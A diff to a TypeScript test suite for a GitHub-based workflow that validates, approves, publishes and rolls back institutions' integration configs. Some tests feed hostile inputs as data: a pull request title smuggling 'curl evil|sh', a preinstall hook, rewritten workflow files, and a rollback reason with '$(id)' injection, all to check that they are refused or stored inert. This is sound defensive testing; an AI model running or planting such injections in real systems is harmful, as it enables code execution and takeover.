@@ -10,7 +10,6 @@ import { onDay, runWorkflow, type WorkflowResult, type World } from './workflows
 const project = join(import.meta.dirname, '..');
 let day = '2026-06-01';
 const alfaFile = 'integrations/alfa.yaml';
-const patience = 180_000;
 
 let world: TestGitHub;
 let age: Account;
@@ -36,7 +35,7 @@ beforeAll(async () => {
     [alfa, await world.fork(base, alfa)],
     [stranger, await world.fork(base, stranger)],
   ]);
-}, patience);
+});
 afterAll(() => world.stop());
 
 function filesOf(folder: string, prefix: string): Record<string, Uint8Array> {
@@ -93,105 +92,93 @@ const failed = ({ jobs }: WorkflowResult) =>
 
 const withAddress = (address: string) => main(alfaFile).replace(/addresses: \[[^\]]*\]/, `addresses: ["${address}"]`);
 
-test(
-  'a pull request with a mistake is answered, mended, approved, merged and published in staging',
-  async () => {
-    const wrong = push(alfa, 'address', { [alfaFile]: withAddress('10.0.0.7') });
-    const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:address', title: 'Altă adresă' });
-    expect(failed(await judged(number)).map(({ exitCode }) => exitCode)).toEqual([1]);
-    expect(verdictOf(wrong)).toMatchObject({ state: 'failure', creator: { id: world.bot.id } });
-    const [first] = await world.comments(base, number);
-    expect(first?.login).toBe('github-actions[bot]');
-    expect(first?.body).toContain('10.0.0.7');
-    expect(first?.body).toContain('address-private');
+test('a pull request with a mistake is answered, mended, approved, merged and published in staging', async () => {
+  const wrong = push(alfa, 'address', { [alfaFile]: withAddress('10.0.0.7') });
+  const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:address', title: 'Altă adresă' });
+  expect(failed(await judged(number)).map(({ exitCode }) => exitCode)).toEqual([1]);
+  expect(verdictOf(wrong)).toMatchObject({ state: 'failure', creator: { id: world.bot.id } });
+  const [first] = await world.comments(base, number);
+  expect(first?.login).toBe('github-actions[bot]');
+  expect(first?.body).toContain('10.0.0.7');
+  expect(first?.body).toContain('address-private');
 
-    const right = push(alfa, 'address', {
-      [alfaFile]: withAddress('198.51.100.77').replace('[Cazier, ExtrasRegistru]', '[Cazier]'),
-    });
-    expect(failed(await judged(number))).toEqual([]);
-    // All addresses are others now: AGE has to look.
-    expect(verdictOf(right)).toMatchObject({ state: 'pending' });
-    expect(verdictOf(wrong)).toMatchObject({ state: 'failure' });
-    const after = await world.comments(base, number);
-    expect(after.map(({ id }) => id)).toEqual([first?.id]);
-    expect(after[0]?.body).toContain('198.51.100.77');
-    expect(after[0]?.body).not.toContain('address-private');
+  const right = push(alfa, 'address', {
+    [alfaFile]: withAddress('198.51.100.77').replace('[Cazier, ExtrasRegistru]', '[Cazier]'),
+  });
+  expect(failed(await judged(number))).toEqual([]);
+  // All addresses are others now: AGE has to look.
+  expect(verdictOf(right)).toMatchObject({ state: 'pending' });
+  expect(verdictOf(wrong)).toMatchObject({ state: 'failure' });
+  const after = await world.comments(base, number);
+  expect(after.map(({ id }) => id)).toEqual([first?.id]);
+  expect(after[0]?.body).toContain('198.51.100.77');
+  expect(after[0]?.body).not.toContain('address-private');
 
-    await world.review(base, number, stranger, 'APPROVE');
-    await judged(number);
-    expect(verdictOf(right)).toMatchObject({ state: 'pending' });
-    await world.review(base, number, approver, 'APPROVE');
-    await judged(number);
-    expect(verdictOf(right)).toMatchObject({ state: 'success' });
-    const merged = await world.merge(base, number, approver);
-    const { jobs } = await run('provision', 'push', {
-      ref: 'refs/heads/main',
-      before: '0'.repeat(40),
-      after: merged,
-      forced: false,
-    });
-    expect(jobs.find(({ name }) => name === 'staging')?.steps.filter(({ conclusion }) => conclusion === 'failure')).toEqual([]);
-    expect(world.git(base).read('environment/staging', 'clients.json')).toContain('Registrul electronic Alfa');
-    expect(world.git(base).read('environment/staging', 'nginx/addresses.geo')).toContain('198.51.100.77');
-  },
-  patience,
-);
+  await world.review(base, number, stranger, 'APPROVE');
+  await judged(number);
+  expect(verdictOf(right)).toMatchObject({ state: 'pending' });
+  await world.review(base, number, approver, 'APPROVE');
+  await judged(number);
+  expect(verdictOf(right)).toMatchObject({ state: 'success' });
+  const merged = await world.merge(base, number, approver);
+  const { jobs } = await run('provision', 'push', {
+    ref: 'refs/heads/main',
+    before: '0'.repeat(40),
+    after: merged,
+    forced: false,
+  });
+  expect(jobs.find(({ name }) => name === 'staging')?.steps.filter(({ conclusion }) => conclusion === 'failure')).toEqual([]);
+  expect(world.git(base).read('environment/staging', 'clients.json')).toContain('Registrul electronic Alfa');
+  expect(world.git(base).read('environment/staging', 'nginx/addresses.geo')).toContain('198.51.100.77');
+});
 
-test(
-  'a stranger who opens another institution, rewrites its judge and its schema is refused by the judge of main',
-  async () => {
-    const head = push(stranger, 'take-over', {
-      [alfaFile]: withAddress('198.51.100.78'),
-      '.github/workflows/verdict.yml': 'name: verdict\non: push\njobs: {}\n',
-      '.github/workflows/validate.yml': 'name: validate\non: pull_request\njobs: {}\n',
-      'dist/mdocs.mjs': 'process.exit(0);\n',
-      'schemas/integration.schema.json': '{}\n',
-      'registry/policy.yaml': main('registry/policy.yaml').replace('9000000001', '666'),
-      'package.json': '{"scripts":{"preinstall":"touch pwned"}}\n',
-    });
-    const number = await world.openPull(base, stranger, { head: 'stranger:take-over', title: 'a";curl evil|sh;# @everyone' });
-    await judged(number);
-    expect(verdictOf(head)).toMatchObject({ state: 'failure' });
-    const [comment] = await world.comments(base, number);
-    expect(comment?.body).toContain('change-not-yours');
-    expect(comment?.body).toContain('outside-integrations');
-    await world.closePull(base, number, stranger);
-  },
-  patience,
-);
+test('a stranger who opens another institution, rewrites its judge and its schema is refused by the judge of main', async () => {
+  const head = push(stranger, 'take-over', {
+    [alfaFile]: withAddress('198.51.100.78'),
+    '.github/workflows/verdict.yml': 'name: verdict\non: push\njobs: {}\n',
+    '.github/workflows/validate.yml': 'name: validate\non: pull_request\njobs: {}\n',
+    'dist/mdocs.mjs': 'process.exit(0);\n',
+    'schemas/integration.schema.json': '{}\n',
+    'registry/policy.yaml': main('registry/policy.yaml').replace('9000000001', '666'),
+    'package.json': '{"scripts":{"preinstall":"touch pwned"}}\n',
+  });
+  const number = await world.openPull(base, stranger, { head: 'stranger:take-over', title: 'a";curl evil|sh;# @everyone' });
+  await judged(number);
+  expect(verdictOf(head)).toMatchObject({ state: 'failure' });
+  const [comment] = await world.comments(base, number);
+  expect(comment?.body).toContain('change-not-yours');
+  expect(comment?.body).toContain('outside-integrations');
+  await world.closePull(base, number, stranger);
+});
 
-test(
-  'production is published for what was tested, after AGE approved and the reviewers of the environment agreed, and says who did',
-  async () => {
-    // What main began with nobody can be found to have approved, and it was not this access that was tested.
-    expect(world.git(base).read('environment/production', 'manifest.json')).not.toContain('alfa-registru');
-    const digest = /"access": "(sha256:[0-9a-f]{64})"/.exec(published('staging', 'manifest.json', 'alfa-registru'))?.[1] ?? '';
+test('production is published for what was tested, after AGE approved and the reviewers of the environment agreed, and says who did', async () => {
+  // What main began with nobody can be found to have approved, and it was not this access that was tested.
+  expect(world.git(base).read('environment/production', 'manifest.json')).not.toContain('alfa-registru');
+  const digest = /"access": "(sha256:[0-9a-f]{64})"/.exec(published('staging', 'manifest.json', 'alfa-registru'))?.[1] ?? '';
 
-    day = '2026-06-05';
-    const confirmation = `        confirmation:\n          tested: 2026-06-04\n          by: integrari@alfa.example\n          access: ${digest}\n          report: Toate scenariile din ghid au reușit.\n`;
-    const without = main(alfaFile).replace(/ {8}confirmation:[\s\S]*$/, '');
-    const head = push(alfa, 'confirm', { [alfaFile]: `${without.trimEnd()}\n${confirmation}` });
-    const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:confirm', title: 'Confirmare' });
-    await judged(number);
-    expect(verdictOf(head)).toMatchObject({ state: 'pending' });
-    await world.review(base, number, approver, 'APPROVE');
-    await judged(number);
-    expect(verdictOf(head)).toMatchObject({ state: 'success' });
-    const merged = await world.merge(base, number, approver);
+  day = '2026-06-05';
+  const confirmation = `        confirmation:\n          tested: 2026-06-04\n          by: integrari@alfa.example\n          access: ${digest}\n          report: Toate scenariile din ghid au reușit.\n`;
+  const without = main(alfaFile).replace(/ {8}confirmation:[\s\S]*$/, '');
+  const head = push(alfa, 'confirm', { [alfaFile]: `${without.trimEnd()}\n${confirmation}` });
+  const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:confirm', title: 'Confirmare' });
+  await judged(number);
+  expect(verdictOf(head)).toMatchObject({ state: 'pending' });
+  await world.review(base, number, approver, 'APPROVE');
+  await judged(number);
+  expect(verdictOf(head)).toMatchObject({ state: 'success' });
+  const merged = await world.merge(base, number, approver);
 
-    await run('provision', 'push', pushed(merged));
-    expect(published('production', 'manifest.json', 'alfa-registru')).toContain(digest);
-    const message = world.git(base).git('log', '-1', '--format=%B', 'environment/production');
-    for (const line of [
-      `Source-Commit: ${merged}`,
-      `Pull-Request: alfa/alfa-registru #${number}`,
-      'Confirmed-By: alfa/alfa-registru alfa-demo-it (9000000101)',
-      'Approved-By: alfa/alfa-registru age-demo-aprobare (9000000002)',
-    ])
-      expect(message).toContain(line);
-  },
-  patience,
-);
+  await run('provision', 'push', pushed(merged));
+  expect(published('production', 'manifest.json', 'alfa-registru')).toContain(digest);
+  const message = world.git(base).git('log', '-1', '--format=%B', 'environment/production');
+  for (const line of [
+    `Source-Commit: ${merged}`,
+    `Pull-Request: alfa/alfa-registru #${number}`,
+    'Confirmed-By: alfa/alfa-registru alfa-demo-it (9000000101)',
+    'Approved-By: alfa/alfa-registru age-demo-aprobare (9000000002)',
+  ])
+    expect(message).toContain(line);
+});
 
 const manifest = (environment: string) => world.git(base).read(`environment/${environment}`, 'manifest.json');
 
@@ -201,56 +188,38 @@ function published(environment: string, path: string, system: string): string {
   return text.slice(text.indexOf(`"system": "${system}"`));
 }
 
-test(
-  'an operator without a command line takes production back, when its reviewers agree, and later lets it go on',
-  async () => {
-    const commits = () => world.git(base).git('log', '--format=%H', 'environment/production').split('\n');
-    const [earlier = ''] = commits();
-    const dispatched = (inputs: object, more: Partial<World> = {}) =>
-      run(
-        'rollback',
-        'workflow_dispatch',
-        { inputs: { environment: 'production', ...inputs }, sender: { login: 'age-op' } },
-        more,
-      );
-    const reason = '"; touch pwned; $(id) # Testul nu e bun.';
-    const asked = { commit: earlier, reason };
+test('an operator without a command line takes production back, when its reviewers agree, and later lets it go on', async () => {
+  const commits = () => world.git(base).git('log', '--format=%H', 'environment/production').split('\n');
+  const [earlier = ''] = commits();
+  const dispatched = (inputs: object, more: Partial<World> = {}) =>
+    run('rollback', 'workflow_dispatch', { inputs: { environment: 'production', ...inputs }, sender: { login: 'age-op' } }, more);
+  const reason = '"; touch pwned; $(id) # Testul nu e bun.';
+  const asked = { commit: earlier, reason };
 
-    const [waiting] = (await dispatched(asked, { approvals: { production: 'waiting' } })).jobs;
-    expect(waiting).toMatchObject({ conclusion: 'waiting', environment: 'production' });
-    for (const wrong of [
-      { reason },
-      { commit: `${earlier} --release`, reason },
-      { commit: earlier },
-      { ...asked, release: true },
-    ])
-      expect(failed(await dispatched(wrong)).map(({ name }) => name)).toEqual(['Check what is asked']);
-    const before = commits();
-    expect(failed(await dispatched(asked))).toEqual([]);
-    expect(JSON.parse(world.git(base).read('environment/production', 'hold.json'))).toMatchObject({
-      by: 'age-op',
-      reason,
-      to: earlier,
-    });
-    expect(failed(await dispatched({ release: true }))).toEqual([]);
-    expect(() => world.git(base).read('environment/production', 'hold.json')).toThrow();
-    expect(commits().slice(2)).toEqual(before);
-  },
-  patience,
-);
+  const [waiting] = (await dispatched(asked, { approvals: { production: 'waiting' } })).jobs;
+  expect(waiting).toMatchObject({ conclusion: 'waiting', environment: 'production' });
+  for (const wrong of [{ reason }, { commit: `${earlier} --release`, reason }, { commit: earlier }, { ...asked, release: true }])
+    expect(failed(await dispatched(wrong)).map(({ name }) => name)).toEqual(['Check what is asked']);
+  const before = commits();
+  expect(failed(await dispatched(asked))).toEqual([]);
+  expect(JSON.parse(world.git(base).read('environment/production', 'hold.json'))).toMatchObject({
+    by: 'age-op',
+    reason,
+    to: earlier,
+  });
+  expect(failed(await dispatched({ release: true }))).toEqual([]);
+  expect(() => world.git(base).read('environment/production', 'hold.json')).toThrow();
+  expect(commits().slice(2)).toEqual(before);
+});
 
-test(
-  'a suspension reaches both environments in one run, and leaves reviewers nothing to approve',
-  async () => {
-    expect(manifest('production')).toContain('alfa-registru');
-    const suspended = main(alfaFile).replace('rsi: "0123"', 'rsi: "0123"\n    status: suspended\n    reason: Verificare.');
-    const after = world.commit(base, { branch: 'main', files: { [alfaFile]: suspended }, message: 'Suspend Alfa' });
-    const { jobs } = await run('provision', 'push', pushed(after), { approvals: { production: 'waiting' } });
-    const { withdraw, plan, production } = Object.fromEntries(jobs.map((job) => [job.name, job]));
-    expect(withdraw?.steps.find(({ name }) => name === 'Withdraw')).toMatchObject({ conclusion: 'success', commands: [] });
-    for (const environment of ['staging', 'production']) expect(manifest(environment)).not.toContain('alfa-registru');
-    expect(plan).toMatchObject({ conclusion: 'success', outputs: { changes: 'false' } });
-    expect(production?.conclusion).toBe('skipped');
-  },
-  patience,
-);
+test('a suspension reaches both environments in one run, and leaves reviewers nothing to approve', async () => {
+  expect(manifest('production')).toContain('alfa-registru');
+  const suspended = main(alfaFile).replace('rsi: "0123"', 'rsi: "0123"\n    status: suspended\n    reason: Verificare.');
+  const after = world.commit(base, { branch: 'main', files: { [alfaFile]: suspended }, message: 'Suspend Alfa' });
+  const { jobs } = await run('provision', 'push', pushed(after), { approvals: { production: 'waiting' } });
+  const { withdraw, plan, production } = Object.fromEntries(jobs.map((job) => [job.name, job]));
+  expect(withdraw?.steps.find(({ name }) => name === 'Withdraw')).toMatchObject({ conclusion: 'success', commands: [] });
+  for (const environment of ['staging', 'production']) expect(manifest(environment)).not.toContain('alfa-registru');
+  expect(plan).toMatchObject({ conclusion: 'success', outputs: { changes: 'false' } });
+  expect(production?.conclusion).toBe('skipped');
+});
